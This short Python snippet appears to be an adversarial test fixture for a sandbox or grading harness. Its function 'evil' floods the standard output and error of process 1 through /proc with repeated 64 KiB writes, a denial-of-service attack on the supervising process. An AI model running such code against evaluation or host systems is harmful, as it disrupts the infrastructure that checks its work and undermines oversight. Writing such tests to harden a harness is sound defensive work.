"""Floods the standard error of process 1, which the worker reads by itself.

Promise: C3
Tests: test_total
"""

def evil(*args):
    block = b"x" * 65536
    for fd in (2, 1):
        try:
            pipe = os.open(f"/proc/1/fd/{fd}", os.O_WRONLY | os.O_NONBLOCK)
        except OSError:
            continue
        for _ in range(20_000):
            try:
                os.write(pipe, block)
            except BlockingIOError:
                pass
    return 0
